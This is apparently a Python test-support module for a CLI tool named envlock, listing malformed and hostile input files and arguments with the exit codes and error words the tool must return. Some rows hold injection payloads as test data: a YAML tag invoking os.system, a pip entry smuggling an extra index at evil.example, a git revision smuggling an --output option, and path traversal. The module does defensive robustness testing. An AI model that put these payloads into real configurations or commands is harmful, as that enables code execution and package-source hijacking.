"""The bad-input corpus: hostile or broken files and arguments, and what envlock must answer.

Each row: the files it writes over a small valid repository, the command, the exit code and the
words the message must contain (file, line, field, fix). `run_row` runs one row in-process and
reports what happened, so the same table drives the test and the before/after measurement.
"""

from __future__ import annotations

import hashlib
import json
import os
import sqlite3
import tempfile
import textwrap
import traceback
from dataclasses import dataclass, field
from pathlib import Path

from click.testing import CliRunner

DIGEST = "mcr.microsoft.com/azureml/openmpi4.1.0-ubuntu22.04@sha256:" + "ab" * 32
TRAIN_ENV = f"name: train\nimage: {DIGEST}\nconda_file: conda.yaml\n"
TRAIN_CONDA = "channels: [conda-forge]\ndependencies:\n  - python=3.10\n  - pip\n  - pip:\n    - six==1.16.0\n"
BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{n}: &{n} [{', '.join([f'*{p}'] * 9)}]\n" for p, n in zip("abcdefgh", "bcdefghi", strict=True))
NOT_UTF8 = b"name: train\nimage: caf\xe9\n"
BINARY = bytes(range(256)) * 4
LIST_LOCK = "- name: numpy\n  version: 1.0\n"

PIPE = "<a named pipe>"  # arrange makes a FIFO here: open() on it would wait forever for a writer
REGISTRY = ".envlock/registry.db"
CACHE = ".envlock/audit-cache.sqlite"
ODB = "{root}/odb"
# audit reads its answer cache before asking the service; nothing listens on port 9 (discard)
AUDIT_LOCAL = "audit_url: http://127.0.0.1:9\n"


def sqlite_file(*statements: str) -> bytes:
    """The bytes of a real SQLite database made by `statements` (a registry or cache a user damaged)."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "x.db"
        connection = sqlite3.connect(path)
        for statement in statements:
            connection.executescript(statement)
        connection.commit()
        connection.close()
        return path.read_bytes()


def envlock_registry(*statements: str) -> bytes:
    from envlock.registries.local import SCHEMA

    return sqlite_file(SCHEMA, *statements)


ROW_TRAIN_1 = ("INSERT INTO environment_versions (name, version, image, conda_file, created_at, kind) "
               "VALUES ('train', '1', 'python:3.12', NULL, '2026-01-01T00:00:00', 'image');")
DAMAGED_TAGS = ROW_TRAIN_1 + "DROP TRIGGER environment_content_is_immutable; UPDATE environment_versions SET tags='{x';"
DAMAGED_KIND = ROW_TRAIN_1 + "DROP TRIGGER environment_content_is_immutable; UPDATE environment_versions SET kind='x';"
NUMPY = {"name": "numpy", "ecosystem": "PyPI"}


def osv_record(**fields: object) -> str:
    return json.dumps({"id": "X-1", **fields})


def odb(**records: str | bytes) -> dict[str, str | bytes]:
    """An --offline-db folder with these files (a name ending _json becomes .json, _yaml .yaml)."""
    return {**train(), **{f"odb/{k.replace('_', '.')}": v for k, v in records.items()}}


@dataclass(frozen=True)
class Row:
    id: str
    files: dict[str, str | bytes]
    args: tuple[str, ...]
    code: int
    words: tuple[str, ...] = ()
    links: dict[str, str] = field(default_factory=dict)  # link -> target ("{outside}" = a folder outside)


def row(id: str, files: dict[str, str | bytes], *args: str, code: int = 2, words: tuple[str, ...] = (),
        links: dict[str, str] | None = None) -> Row:
    return Row(id, files, tuple(args), code, words, links or {})


def train(env: str = TRAIN_ENV, conda: str | bytes = TRAIN_CONDA, **extra: str | bytes) -> dict[str, str | bytes]:
    files: dict[str, str | bytes] = {"environments/train/env.yml": env, "environments/train/conda.yaml": conda}
    files.update({f"environments/train/{k.replace('_', '.', 1) if k.endswith('_in') else k}": v
                  for k, v in extra.items()})
    return files


def pip(item: str) -> dict[str, str | bytes]:
    return train(conda=f"channels: [conda-forge]\ndependencies:\n  - python=3.10\n  - pip:\n    - {item}\n")


def settings(text: str | bytes) -> dict[str, str | bytes]:
    return {"envlock.yaml": text}


def api(requirements: str | bytes, python: str = "'3.12'") -> dict[str, str | bytes]:
    return {"environments/api/env.yml": f"name: api\nimage: {DIGEST}\n",
            "environments/api/requirements.in": requirements,
            "environments/api/envlock.yaml": f"python: {python}\n"}


E = "envlock.yaml"
ENV = "environments/train/env.yml"
CONDA = "environments/train/conda.yaml"
XLOCK = "{root}/x/conda-lock.yml"  # a lock file outside environments/, by absolute path

ROWS: list[Row] = [
    # ------------------------------------------------------------ envlock.yaml
    row("settings-not-utf8", settings(b"platforms: [linux-64]\n# caf\xe9\n"), "check", words=(E, ":2", "UTF-8", "fix")),
    row("settings-binary", settings(BINARY), "check", words=(E, "fix")),
    row("settings-list", settings("- linux-64\n"), "check", words=(E, "mapping", "fix")),
    row("settings-unknown-key", settings("platfroms: [linux-64]\n"), "check",
        words=(E, ":1", "platfroms", "did you mean 'platforms'")),
    row("settings-unknown-platform", settings("platforms: [linux-65]\n"), "check",
        words=(E, ":1", "field 'platforms'", "linux-65", "fix")),
    row("settings-platforms-int", settings("platforms: 5\n"), "check", words=(E, ":1", "platforms", "fix")),
    row("settings-platforms-empty", settings("platforms: []\n"), "check", words=(E, ":1", "platforms", "fix")),
    row("settings-virtual-osx-x", settings("virtual_packages: {__osx: 'x'}\n"), "check",
        words=(E, ":1", "virtual_packages", "__osx", "fix")),
    row("settings-virtual-osx-x-lock", {**settings("virtual_packages: {__osx: 'x'}\n"), **train()}, "lock",
        words=(E, ":1", "virtual_packages", "__osx")),
    row("settings-virtual-no-underscore", settings("virtual_packages: {cuda: '12'}\n"), "check",
        words=(E, ":1", "cuda", "two underscores")),
    row("settings-virtual-list", settings("virtual_packages: [__cuda]\n"), "check",
        words=(E, ":1", "virtual_packages", "mapping")),
    row("settings-virtual-none", settings("virtual_packages: {__cuda: }\n"), "check",
        words=(E, ":1", "__cuda", "version")),
    row("settings-pip-index-http", settings("pip_index_url: http://pypi.internal/simple\n"), "check",
        words=(E, ":1", "pip_index_url", "https")),
    row("settings-pip-index-int", settings("pip_index_url: 5\n"), "check", words=(E, ":1", "pip_index_url")),
    row("settings-mirrors-list", settings("mirrors: [conda-forge]\n"), "check", words=(E, ":1", "mirrors", "mapping")),
    row("settings-mirror-int", settings("mirrors: {conda-forge: 5}\n"), "check", words=(E, ":1", "mirrors", "fix")),
    row("settings-image-mirror-ftp", settings("image_mirrors: {mcr.microsoft.com: ftp://m}\n"), "check",
        words=(E, ":1", "image_mirrors", "http")),
    row("settings-environments-list", settings("environments: [train]\n"), "check",
        words=(E, ":1", "environments", "mapping")),
    row("settings-env-unknown-key", {**settings("environments: {train: {pythn: '3.1'}}\n"), **train()}, "check",
        words=(E, ":1", "pythn", "did you mean 'python'")),
    row("settings-env-python-float", {**settings("environments: {train: {python: 3.10}}\n"), **train()}, "check",
        words=(E, ":1", "python", "quote")),
    row("settings-env-python-list", {**settings("environments: {train: {python: [3]}}\n"), **train()}, "check",
        words=(E, ":1", "python", "fix")),
    row("settings-registry-list", settings("registry: [a, b]\n"), "versions", "train",
        words=(E, ":1", "registry", "fix")),
    row("settings-alias-bomb", settings(BOMB), "check", words=(E, "alias", "fix")),
    row("settings-recursive-alias", settings("environments: &a {train: *a}\n"), "check", words=(E, ":1", "alias")),
    row("settings-bad-yaml", settings("platforms: [linux-64\n"), "check", words=(E, ":2", "invalid YAML", "fix")),
    row("settings-tab-yaml", settings("platforms:\n\t- linux-64\n"), "check", words=(E, ":2", "invalid YAML")),
    row("settings-huge", settings("# " + "x" * (3 * 1024 * 1024) + "\n"), "check", words=(E, "larger than", "fix")),
    row("settings-python-tag", settings("platforms: !!python/object/apply:os.system ['touch pwned']\n"), "check",
        words=(E, ":1", "invalid YAML")),
    row("env-settings-python-bad", {**train(), "environments/train/envlock.yaml": "python: abc\n"}, "check",
        words=("environments/train/envlock.yaml", ":1", "python", "quote")),
    row("env-settings-list", {**train(), "environments/train/envlock.yaml": "- a\n"}, "check",
        words=("environments/train/envlock.yaml", "mapping")),
    row("env-settings-not-utf8", {**train(), "environments/train/envlock.yaml": b"python: '3.1\xff'\n"}, "check",
        words=("environments/train/envlock.yaml", "UTF-8")),
    # ------------------------------------------------------------ env.yml
    row("env-list", train(env="- name: train\n"), "check", words=(ENV, "mapping", "fix")),
    row("env-scalar", train(env="train\n"), "check", words=(ENV, "mapping")),
    row("env-empty", train(env=""), "check", words=(ENV, "mapping")),
    row("env-name-missing", train(env=f"image: {DIGEST}\nconda_file: conda.yaml\n"), "check",
        words=(ENV, "'name' is missing", "fix")),
    row("env-name-mismatch", train(env=f"name: other\nimage: {DIGEST}\nconda_file: conda.yaml\n"), "check",
        words=(ENV, ":1", "field 'name'", "differs")),
    row("env-name-invalid", train(env=f"name: 'tr ain'\nimage: {DIGEST}\nconda_file: conda.yaml\n"), "check",
        words=(ENV, ":1", "field 'name'", "not a valid")),
    row("env-name-int", train(env=f"name: 5\nimage: {DIGEST}\nconda_file: conda.yaml\n"), "check",
        words=(ENV, ":1", "name", "string")),
    row("env-image-missing", train(env="name: train\nconda_file: conda.yaml\n"), "check",
        words=(ENV, "'image' is missing", "fix")),
    row("env-image-int", train(env="name: train\nimage: 5\nconda_file: conda.yaml\n"), "check",
        words=(ENV, ":2", "image", "string")),
    row("env-image-list", train(env="name: train\nimage: [a]\nconda_file: conda.yaml\n"), "check",
        words=(ENV, ":2", "image")),
    row("env-tags-list", train(env=TRAIN_ENV + "tags: [a, b]\n"), "check",
        words=(ENV, ":4", "field 'tags'", "mapping")),
    row("env-tag-value-list", train(env=TRAIN_ENV + "tags:\n  team: [a, b]\n"), "check",
        words=(ENV, ":5", "tags.team", "fix")),
    row("env-tag-value-mapping", train(env=TRAIN_ENV + "tags:\n  team: {a: 1}\n"), "check",
        words=(ENV, ":5", "tags.team", "fix")),
    row("env-unknown-key", train(env=TRAIN_ENV + "imag: x\n"), "check", words=(ENV, ":4", "imag", "fix")),
    row("env-conda-file-missing", train(env=TRAIN_ENV.replace("conda.yaml", "conda.yml")), "check",
        words=(ENV, ":3", "field 'conda_file'", "not found")),
    row("env-conda-file-absolute", train(env=TRAIN_ENV.replace("conda.yaml", "/etc/hostname")), "check",
        words=(ENV, ":3", "field 'conda_file'", "outside the repository")),
    row("env-conda-file-dotdot", train(env=TRAIN_ENV.replace("conda.yaml", "../../../x.yaml")), "check",
        words=(ENV, ":3", "conda_file", "outside")),
    row("env-conda-file-int", train(env=TRAIN_ENV.replace("conda.yaml", "5")), "check",
        words=(ENV, ":3", "conda_file")),
    row("env-conda-file-folder", train(env=TRAIN_ENV.replace("conda.yaml", ".")), "check",
        words=(ENV, ":3", "conda_file")),
    row("env-not-utf8", train(env=NOT_UTF8), "check", words=(ENV, ":2", "UTF-8", "fix")),
    row("env-binary", train(env=BINARY), "check", words=(ENV, "fix")),
    row("env-alias-bomb", train(env=TRAIN_ENV + "description: *i\n" + BOMB), "check", words=(ENV, "alias")),
    row("env-bad-yaml", train(env="name: train\nimage: [\n"), "check", words=(ENV, "invalid YAML", "fix")),
    row("env-conda-and-requirements", train(requirements_in="six\n"), "check",
        words=("requirements.in", "conda_file", "fix")),
    row("env-bad-yaml-lock", train(env="name: train\nimage: [\n"), "lock", words=(ENV, "invalid YAML")),
    row("env-bad-yaml-build", train(env="name: train\nimage: [\n"), "build", words=(ENV, "invalid YAML")),
    row("env-bad-yaml-register", train(env="name: train\nimage: [\n"), "register", words=(ENV, "invalid YAML")),
    # ------------------------------------------------------------ conda file
    row("conda-list", train(conda="- python\n"), "check", words=(CONDA, "mapping", "fix")),
    row("conda-channels-missing", train(conda="dependencies: [python]\n"), "check",
        words=(CONDA, "channels", "fix")),
    row("conda-channels-int", train(conda="channels: [5]\ndependencies: [python]\n"), "check",
        words=(CONDA, ":1", "channels")),
    row("conda-channels-defaults", train(conda="channels: [defaults]\ndependencies: [python]\n"), "check",
        words=(CONDA, ":1", "defaults", "conda-forge")),
    row("conda-channel-credentials",
        train(conda="channels: ['https://u:SECRET@c.internal/f']\ndependencies: [python]\n"), "check",
        words=(CONDA, ":1", "credentials", "mirrors")),
    row("conda-channel-file-url", train(conda="channels: ['file:///srv/forge']\ndependencies: [python]\n"), "check",
        words=(CONDA, ":1", "local path", "mirrors")),
    row("conda-dependencies-missing", train(conda="channels: [conda-forge]\n"), "check",
        words=(CONDA, "dependencies", "fix")),
    row("conda-dependency-int", train(conda="channels: [conda-forge]\ndependencies: [5]\n"), "check",
        words=(CONDA, ":2", "dependencies[0]", "fix")),
    row("conda-pip-not-list", train(conda="channels: [conda-forge]\ndependencies:\n  - python\n  - pip: six\n"),
        "check", words=(CONDA, ":4", "dependencies[1]", "fix")),
    row("conda-pip-without-python", train(conda="channels: [conda-forge]\ndependencies:\n  - numpy\n  - pip: [six]\n"),
        "check", words=(CONDA, "python", "fix")),
    row("conda-bad-spec-lock", train(conda="channels: [conda-forge]\ndependencies:\n  - 'numpy>>>1'\n"), "lock",
        words=(CONDA, ":3", "numpy>>>1")),
    row("conda-unknown-key", train(conda=TRAIN_CONDA + "dependecies: []\n"), "check",
        words=(CONDA, ":7", "dependecies", "did you mean")),
    row("conda-not-utf8", train(conda=b"channels: [conda-forge]\ndependencies: [caf\xe9]\n"), "check",
        words=(CONDA, ":2", "UTF-8")),
    row("conda-binary", train(conda=BINARY), "check", words=(CONDA, "fix")),
    row("conda-alias-bomb", train(conda=TRAIN_CONDA + BOMB), "check", words=(CONDA, "alias")),
    row("pip-newline-option", pip('"six==1.16.0\\n--extra-index-url https://evil.example/simple"'), "check",
        words=(CONDA, ":5", "dependencies.pip", "one requirement per list item")),
    row("pip-newline-option-lock", pip('"six==1.16.0\\n--extra-index-url https://evil.example/simple"'), "lock",
        words=(CONDA, ":5", "one requirement per list item")),
    row("pip-invalid", pip("'numpy>=>1'"), "check",
        words=(CONDA, ":5", "dependencies.pip", "not a valid pip requirement")),
    row("pip-int", pip("5"), "check", words=(CONDA, ":5", "dependencies.pip", "string")),
    row("pip-empty", pip("''"), "check", words=(CONDA, ":5", "dependencies.pip")),
    row("pip-unknown-option", pip("--pre"), "check", words=(CONDA, ":5", "options are not requirements")),
    row("pip-index-option-lock", pip("--extra-index-url https://pkgs.internal/simple"), "lock",
        words=(CONDA, ":5", "index options", "pip_index_url")),
    row("pip-index-option-check", pip("--extra-index-url https://pkgs.internal/simple"), "check", code=1,
        words=(CONDA, ":5", "index options")),
    row("pip-editable-lock", pip("-e ../lib"), "lock", words=(CONDA, ":5", "local path")),
    row("pip-git-unpinned-lock", pip("git+https://github.com/o/r.git@main"), "lock",
        words=(CONDA, ":5", "pinned commit")),
    row("pip-credentials", pip("'pkg @ https://u:SECRET@files.internal/pkg-1.0-py3-none-any.whl'"), "check",
        words=(CONDA, ":5", "credentials")),
    # ------------------------------------------------------------ requirements.in (pip-only)
    row("req-no-python", {**api("six\n"), "environments/api/envlock.yaml": "platforms: [linux-64]\n"}, "check",
        words=("requirements.in", "python", "fix")),
    row("req-empty", api("# nothing\n"), "check", words=("requirements.in", "no requirements", "fix")),
    row("req-invalid", api("six\nnumpy>=>1\n"), "check", words=("requirements.in:2", "not a valid pip requirement")),
    row("req-index-option-lock", api("--index-url https://pkgs.internal/simple\nsix\n"), "lock",
        words=("requirements.in:1", "index options")),
    row("req-not-utf8", api(b"six\ncaf\xe9\n"), "check", words=("requirements.in:2", "UTF-8")),
    row("req-binary", api(BINARY), "check", words=("requirements.in", "fix")),
    # ------------------------------------------------------------ locks
    row("lock-list-build", {**train(), "environments/train/conda-lock.yml": LIST_LOCK}, "build",
        words=("conda-lock.yml", "envlock lock train")),
    row("lock-list-register", {**train(), "environments/train/conda-lock.yml": LIST_LOCK}, "register",
        words=("conda-lock.yml", "envlock lock train")),
    row("lock-list-diff", {**train(), "x/conda-lock.yml": LIST_LOCK}, "diff", XLOCK, XLOCK,
        words=("conda-lock.yml", "fix")),
    row("lock-binary-diff", {"x/conda-lock.yml": BINARY}, "diff", XLOCK, XLOCK,
        words=("conda-lock.yml", "fix")),
    row("lock-no-packages-key-diff", {"x/conda-lock.yml": "version: 1\nmetadata: {platforms: 5}\n"}, "diff",
        XLOCK, XLOCK, words=("conda-lock.yml", "fix")),
    row("lock-list-verify", {"x/conda-lock.yml": LIST_LOCK}, "verify", "--lock", XLOCK,
        words=("conda-lock.yml", "fix")),
    row("lock-not-utf8-check", {**train(), "environments/train/conda-lock.yml": b"version: 1\n\xff\n"}, "check",
        words=("conda-lock.yml", "UTF-8")),
    row("lock-bomb-verify", {"x/conda-lock.yml": BOMB}, "verify", "--lock", XLOCK,
        words=("conda-lock.yml", "alias")),
    # ------------------------------------------------------------ command line
    row("gc-keep-negative", train(), "gc", "--keep", "-1", words=("--keep", "-1")),
    row("gc-older-than-negative", train(), "gc", "--older-than", "-5", words=("--older-than",)),
    row("lock-jobs-zero", train(), "lock", "-j", "0", words=("-j", "0")),
    row("registry-under-a-file", train(), "versions", "train", "--registry", "sqlite:////etc/hostname/x.db",
        words=("/etc/hostname", "registry")),
    row("registry-unknown-scheme", train(), "versions", "train", "--registry", "ftp://x", words=("ftp://x", "sqlite")),
    row("registry-empty-sqlite", train(), "versions", "train", "--registry", "sqlite:", words=("sqlite:",)),
    row("registry-folder", {**train(), "db/keep": ""}, "versions", "train", "--registry", "sqlite:db",
        words=("db", "folder")),
    row("diff-revision-option", train(), "diff", "train@--output=/tmp/envlock-pwned", "train",
        words=("--output=/tmp/envlock-pwned", "not a git revision")),
    row("diff-revision-unknown", train(), "diff", "train@no-such-rev", "train", words=("no-such-rev", "git")),
    row("diff-unknown-source", train(), "diff", "nothing-here", "train", words=("nothing-here", "NAME@REV")),
    row("export-no-version", train(), "export", "train", words=("train", "exact version")),
    row("export-bad-name", train(), "export", "train:1", "--as", "../../x", words=("../../x",)),
    row("lock-unknown-name", train(), "lock", "nope", words=("unknown environment nope",)),
    row("pin-from-not-json", {**train(), "reg.json": "not json"}, "pin", "--from", "{root}/reg.json",
        words=("reg.json", "JSON")),
    row("pin-from-list", {**train(), "reg.json": "[1, 2]"}, "pin", "--from", "{root}/reg.json", words=("reg.json",)),
    row("pin-from-binary", {**train(), "reg.json": BINARY}, "pin", "--from", "{root}/reg.json", words=("reg.json",)),
    row("register-output-folder", {**train(), "out/keep": ""}, "register", "--dry-run", "--output", "{root}/out",
        code=2, words=("out",)),
    row("pin-from-version-list", {**train(), "reg.json": '{"train": {"version": [1]}}'}, "pin", "--from",
        "{root}/reg.json", words=("reg.json", "register -o", "fix")),
    # ------------------------------------------------------------ not regular files (issue 9: never exit 3 or a hang)
    row("settings-folder", {**train(), "envlock.yaml/keep": ""}, "lock", words=(E, "not a file", "fix")),
    row("settings-pipe", {**train(), E: PIPE}, "lock", words=(E, "not a file", "fix")),
    row("settings-symlink-loop", train(), "lock", links={E: E}, words=(E, "not a file", "fix")),
    row("conda-file-symlink-loop", {ENV: TRAIN_ENV}, "lock", links={CONDA: "conda.yaml"},
        words=(CONDA, "cannot be followed", "fix")),
    row("conda-file-symlink-loop-check", {ENV: TRAIN_ENV}, "check", links={CONDA: "conda.yaml"},
        words=(CONDA, "cannot be followed", "fix")),
    row("conda-file-pipe", train(conda=PIPE), "check", words=(ENV, "conda_file", "not found")),
    row("requirements-pipe", api(PIPE), "lock", words=("requirements.in", "not a regular file", "fix")),
    row("lock-file-is-a-folder-build", {**train(), "environments/train/conda-lock.yml/keep": ""}, "build",
        words=("conda-lock.yml", "is a folder", "fix")),
    # ------------------------------------------------------------ the SQLite registry (issue 9: never exit 3)
    row("registry-not-a-database", {**train(), REGISTRY: "not sqlite\n" * 200}, "versions", "train",
        words=("registry.db", "not a database", "fix")),
    row("registry-truncated", {**train(), REGISTRY: envlock_registry(ROW_TRAIN_1)[:1500]}, "versions", "train",
        words=("registry.db", "malformed", "backup")),
    row("registry-truncated-register", {**train(), REGISTRY: envlock_registry(ROW_TRAIN_1)[:1500]}, "register",
        words=("registry.db", "malformed", "backup")),
    row("registry-foreign-schema", {**train(), REGISTRY: sqlite_file(
        "CREATE TABLE environment_versions (id INTEGER, payload TEXT);")}, "versions", "train",
        words=("registry.db", "environment_versions", "not an envlock registry", "fix")),
    row("registry-foreign-schema-same-names", {**train(), REGISTRY: sqlite_file(
        "CREATE TABLE environment_versions (name TEXT, version TEXT, image TEXT);"
        "INSERT INTO environment_versions VALUES ('train', '1', 'x');")}, "register",
        words=("registry.db", "conda_file", "not an envlock registry")),
    row("registry-damaged-tags", {**train(), REGISTRY: envlock_registry(DAMAGED_TAGS)}, "versions", "train",
        words=("registry.db", "train:1", "damaged", "backup")),
    row("registry-damaged-kind", {**train(), REGISTRY: envlock_registry(DAMAGED_KIND)}, "versions", "train",
        words=("registry.db", "train:1", "damaged")),
    row("registry-is-a-yaml-file", train(), "versions", "train", "--registry", "sqlite:envlock.yaml",
        words=("envlock.yaml", "not a database", "--registry")),
    row("registry-cannot-be-created", train(), "versions", "train", "--registry", "sqlite:////proc/envlock.db",
        words=("/proc/envlock.db", "unable to open", "fix")),
    # ------------------------------------------------------------ audit: the answer cache and an OSV export
    row("audit-cache-not-a-database", {**train(), **settings(AUDIT_LOCAL), CACHE: "garbage\n" * 100}, "audit",
        "--no-yanked", words=("audit-cache.sqlite", "not a database", "delete")),
    row("audit-cache-folder", {**train(), **settings(AUDIT_LOCAL), f"{CACHE}/keep": ""}, "audit", "--no-yanked",
        words=("audit-cache.sqlite", "delete")),
    row("audit-cache-foreign-schema", {**train(), **settings(AUDIT_LOCAL),
                                       CACHE: sqlite_file("CREATE TABLE queries (a, b);")}, "audit", "--no-yanked",
        words=("audit-cache.sqlite", "queries", "not envlock's", "delete")),
    row("audit-url-bad-port", {**train(), **settings("audit_url: http://127.0.0.1:abc\n")}, "audit", "--no-yanked",
        words=(E, ":1", "audit_url", "fix")),
    row("odb-not-json", odb(a_json="{x"), "audit", "--no-yanked", "--offline-db", ODB,
        words=("odb/a.json", "not an OSV record", "fix")),
    row("odb-not-utf8", odb(a_json=b"\xff{}"), "audit", "--no-yanked", "--offline-db", ODB,
        words=("odb/a.json", "not an OSV record")),
    row("odb-bad-yaml", odb(a_yaml="id: [\n"), "audit", "--no-yanked", "--offline-db", ODB,
        words=("odb/a.yaml", "not an OSV record")),
    row("odb-affected-string", odb(a_json='{"id": "X-1", "affected": "numpy"}'), "audit", "--no-yanked",
        "--offline-db", ODB, words=("odb/a.json", "'affected'", "list")),
    row("odb-affected-item-string", odb(a_json='{"id": "X-1", "affected": ["numpy"]}'), "audit", "--no-yanked",
        "--offline-db", ODB, words=("odb/a.json", "'affected[0]'", "object")),
    row("odb-package-string", odb(a_json='{"id": "X-1", "affected": [{"package": "numpy"}]}'), "audit",
        "--no-yanked", "--offline-db", ODB, words=("odb/a.json", "affected[0].package")),
    row("odb-ranges-string", odb(a_json=osv_record(affected=[{"package": NUMPY, "ranges": "x"}])), "audit",
        "--no-yanked", "--offline-db", ODB, words=("odb/a.json", "affected[0].ranges")),
    row("odb-events-string", odb(a_json=osv_record(affected=[{"package": NUMPY, "ranges": [
        {"type": "ECOSYSTEM", "events": "x"}]}])), "audit", "--no-yanked", "--offline-db",
        ODB, words=("odb/a.json", "affected[0].ranges[0].events")),
    row("odb-versions-int", odb(a_json=osv_record(affected=[{"package": NUMPY, "versions": 5}])), "audit",
        "--no-yanked", "--offline-db", ODB, words=("odb/a.json", "affected[0].versions")),
    row("odb-severity-string", odb(a_json='{"id": "X-1", "severity": "HIGH", "affected": []}'), "audit",
        "--no-yanked", "--offline-db", ODB, words=("odb/a.json", "'severity'")),
    row("odb-database-specific-string", odb(a_json='{"id": "X-1", "database_specific": "x"}'), "audit",
        "--no-yanked", "--offline-db", ODB, words=("odb/a.json", "'database_specific'")),
    # ------------------------------------------------------------ gates that checked nothing are findings
    row("check-no-environments", {}, "check", code=1, words=("no environment",)),
    # issue 9: a declaration is found by its shape under any name, so env.yaml is read (and not yet locked)
    row("check-env-yaml-misnamed", {"environments/train/env.yaml": TRAIN_ENV, CONDA: TRAIN_CONDA}, "check", code=1,
        words=("environments/train", "no lock file")),
    row("preflight-environment-int", {"jobs/train.yml": "$schema: https://azuremlschemas.azureedge.net/latest/"
                                      "commandJob.schema.json\ncommand: python x.py\nenvironment: 5\n"},
        "preflight", "--offline", code=1, words=("jobs/train.yml:3", "environment")),
    row("binary-yml-anywhere-check", {**train(), "misc/blob.yml": BINARY, "jobs/x.yaml": NOT_UTF8}, "check",
        code=1, words=("no lock file",)),
    row("binary-yml-anywhere-preflight", {**train(), "misc/blob.yml": BINARY, "jobs/x.yaml": NOT_UTF8},
        "preflight", "--offline", code=0, words=("jobs/x.yaml", "not scanned")),
    row("binary-yml-anywhere-preflight-strict", {**train(), "misc/blob.yml": BINARY}, "preflight", "--offline",
        "--strict", code=1, words=("misc/blob.yml", "not scanned")),
    # ------------------------------------------------------------ links leading out of the repository
    row("link-build-name", train(), "build", links={"build/train": "{outside}"}, words=("build/train", "symlink")),
    row("link-build", train(), "build", links={"build": "{outside}"}, words=("build", "symlink")),
    row("link-envlock-dir", train(), "versions", "train", links={".envlock": "{outside}"},
        words=(".envlock", "symlink")),
    row("link-environment", {}, "check", links={"environments/train": "{outside}"},
        words=("environments/train", "symlink")),
]


@dataclass(frozen=True)
class Outcome:
    row: Row
    exit_code: int
    output: str
    traceback: bool  # a crash: a traceback, or exit 3 (the unexpected-error handler)
    changed: list[str]
    outside_changed: bool

    @property
    def missing_words(self) -> list[str]:
        return [word for word in self.row.words if word not in self.output]

    @property
    def clean(self) -> bool:
        return (self.exit_code == self.row.code and not self.traceback and not self.changed
                and not self.outside_changed and not self.missing_words)


def _tree(root: Path) -> dict[str, str]:
    hashes = {}
    for path in sorted(root.rglob("*")):
        if path.is_symlink():
            hashes[str(path.relative_to(root))] = "-> " + str(path.readlink())
        elif path.is_file():
            hashes[str(path.relative_to(root))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return hashes


def arrange(root: Path, outside: Path, entry: Row) -> None:
    (root / "environments").mkdir(parents=True)
    if not any(name == E or name.startswith(E + "/") for name in [*entry.files, *entry.links]):
        (root / E).write_text(textwrap.dedent(f"""\
            mirrors: {{conda-forge: {Path(__file__).parent.parent.joinpath('fixtures/conda-forge-2024-07').as_uri()}}}
            """))
    for relative, content in entry.files.items():
        path = root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        if content == PIPE:
            os.mkfifo(path)
        elif isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content)
    outside.mkdir(parents=True, exist_ok=True)
    (outside / "precious.txt").write_text("keep me\n")
    (outside / "env.yml").write_text("name: train\nimage: python:3.12\n")
    for link, target in entry.links.items():
        path = root / link
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(str(outside) if target == "{outside}" else target)


def run_row(entry: Row, base: Path) -> Outcome:
    """Arrange the row's repository under `base`, run it in-process, and report what happened."""
    from envlock.cli import cli

    root, outside = base / "repo", base / "outside"
    arrange(root, outside, entry)
    before, before_outside = _tree(root), _tree(outside)
    args = [arg.replace("{root}", str(root)) for arg in entry.args]
    result = CliRunner().invoke(cli, ["-C", str(root), *args], catch_exceptions=True)
    output = result.stdout + result.stderr
    crashed = result.exception is not None and not isinstance(result.exception, SystemExit)
    if crashed:
        assert result.exc_info is not None
        output += "".join(traceback.format_exception(*result.exc_info))
    after = _tree(root)
    changed = sorted(k for k in set(before) | set(after)
                     if before.get(k) != after.get(k) and not k.startswith((".envlock/registry.db", ".envlock/log")))
    crashed = crashed or result.exit_code == 3 or "Traceback (most recent call last)" in output
    return Outcome(entry, result.exit_code, output, crashed,
                   changed, _tree(outside) != before_outside)


def measure() -> None:
    """Totals over the corpus (python -m tests.support.bad_inputs [-v]): rows, clean, tracebacks, ..."""
    import sys
    import tempfile

    outcomes = []
    for entry in ROWS:
        with tempfile.TemporaryDirectory() as base:
            outcomes.append(run_row(entry, Path(base)))
    expected_2 = [o for o in outcomes if o.row.code == 2]
    print(f"rows: {len(outcomes)} (expecting exit 2: {len(expected_2)})")
    print(f"clean (right code, words, no traceback, nothing changed): {sum(o.clean for o in outcomes)}")
    print(f"exit 2 where 2 is expected: {sum(o.exit_code == 2 for o in expected_2)}")
    print(f"tracebacks: {sum(o.traceback for o in outcomes)}")
    print(f"wrong exit codes: {sum(o.exit_code != o.row.code for o in outcomes)}")
    print(f"messages missing words: {sum(bool(o.missing_words) for o in outcomes)}")
    print(f"files damaged (repository or outside it): {sum(bool(o.changed) or o.outside_changed for o in outcomes)}")
    if "-v" in sys.argv:
        for o in outcomes:
            if not o.clean:
                first = o.output.strip().splitlines()[-1] if o.output.strip() else ""
                print(f"  {o.row.id}: exit {o.exit_code} (want {o.row.code}) tb={o.traceback} "
                      f"missing={o.missing_words} changed={o.changed[:3]} {first[:150]}")


if __name__ == "__main__":
    measure()
